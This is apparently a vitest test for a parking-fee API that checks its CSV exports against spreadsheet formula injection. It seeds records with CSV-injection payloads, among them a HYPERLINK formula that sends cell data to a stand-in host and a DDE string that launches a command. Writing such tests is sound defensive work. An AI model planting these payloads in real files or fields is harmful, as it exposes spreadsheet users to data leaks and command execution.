import { beforeAll, expect, test, vi } from "vitest";
import { makeLocation, sharedServer } from "../harness.ts";
import { loadOperations } from "../operations.ts";
import { passage, sendPassages } from "../passages.ts";

const base = "/retribusi/v1";

/** What spreadsheets run, or take for the beginning of another cell. */
const payloads = [
  '=HYPERLINK("http://x.invalid/?"&A1)',
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  '",=1+1,"',
  '";=1+1;"',
  "x\r\n=1+1",
];

const server = sharedServer();
beforeAll(async () => {
  await makeLocation(server, "PSR01");
  // Each export shows one of these: names, keys of events, browsers, changes.
  for (const [number, name] of payloads.entries()) {
    const code = `G${number + 2}`;
    const gate = { location_code: "PSR01", gate_code: code, name, direction: "in", is_active: 1 };
    expect((await server.admin.post(`${base}/frontend/gates`, gate)).status).toBe(201);
    const price = { location_code: "PSR01", gate_code: code, category: "motor", price: 2000 };
    expect((await server.admin.post(`${base}/frontend/tariffs`, price)).status).toBe(201);
    const event = {
      ...passage(`PSR01/${code}`, server.clock.seconds()),
      event_id: `${name.trim()}${number}`,
    };
    await sendPassages(server, [event]);
    // A customer's name holds no control characters.
    if (/[\t\r]/.test(name)) continue;
    const customer = { code: `C-${number}`, name };
    expect((await server.admin.post("/backoffice/v1/customers", customer)).status).toBe(201);
  }
  await server.admin.put(`${base}/frontend/locations/PSR01`, { name: payloads[0] }, { "user-agent": "=1+1" });
  const guess = { username: "=1+1", password: "salah sekali" };
  await server.anonymous.post("/auth/v1/login", guess, { "user-agent": "=1+1" });
  const correction = {
    action: "void",
    location_code: "PSR01",
    from: server.clock.seconds() - 3600,
    until: server.clock.seconds() + 3600,
    reason: payloads[0],
  };
  expect((await server.operator.post(`${base}/frontend/entry-corrections`, correction)).status).toBe(201);
  const written = () => server.sql.query("SELECT FROM security_events WHERE user_agent = '=1+1'");
  await vi.waitFor(async () => expect((await written()).rowCount).toBeGreaterThan(0), { timeout: 20_000 });
});

test("whatever customers, machines and browsers call themselves, no cell of an export is a formula", async () => {
  const today = new Date(server.clock.now().getTime() + 7 * 3_600_000).toISOString().slice(0, 10);
  const period = `date=${today}&start_date=${today}&end_date=${today}&period=${today.slice(0, 7)}`;
  const exports = (await loadOperations(server.url)).filter((operation) =>
    [...operation.responses.values()].some(({ types }) => types.includes("text/csv")),
  );
  expect(exports.map(({ path }) => path)).toEqual(
    expect.arrayContaining([
      "/auth/v1/security-events/export",
      `${base}/dashboard/daily/export`,
      `${base}/frontend/audit-logs/export`,
      `${base}/frontend/entry-corrections/{id}/export`,
      `${base}/frontend/entry-events/export`,
      `${base}/summary/daily/export`,
      `${base}/summary/hourly/export`,
      "/backoffice/v1/customers/export",
      `${base}/frontend/gates/export`,
    ]),
  );
  let disarmed = 0;
  // What belongs to one record is written by the same code.
  for (const { path, parameters } of exports.filter((one) => !one.path.includes("{"))) {
    const wanted = new Set(parameters.map(({ name }) => name));
    const query = period.split("&").filter((pair) => wanted.has(pair.split("=")[0] ?? ""));
    for (const separator of [",", ";"]) {
      const { status, text } = await server.admin.get(
        `${path}?${[...query, `separator=${separator}`].join("&")}`,
      );
      expect(status, text).toBe(200);
      const cells = rowsOf(text.replace("\uFEFF", ""), separator).flat();
      const formulas = cells.filter(
        (cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell),
      );
      expect(formulas, path).toEqual([]);
      disarmed += cells.filter((cell) => /^'[=+\-@\t\r＝]/.test(cell)).length;
    }
  }
  expect(disarmed).toBeGreaterThan(payloads.length);
});

/** RFC 4180, as a spreadsheet reads it. */
function rowsOf(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const plain = new RegExp(
    `"((?:[^"]|"")*)"(${separator}|\\r\\n|$)|([^"\\r\\n${separator}]*)(${separator}|\\r\\n|$)`,
    "y",
  );
  for (let at = 0; at < csv.length; at = plain.lastIndex) {
    plain.lastIndex = at;
    const found = plain.exec(csv);
    if (found === null) throw new Error(`no CSV from here: ${csv.slice(at, at + 100)}`);
    const [, quoted, quotedEnd, bare, bareEnd] = found;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
    if ((quotedEnd ?? bareEnd) === "\r\n") rows.push([]);
  }
  return rows;
}
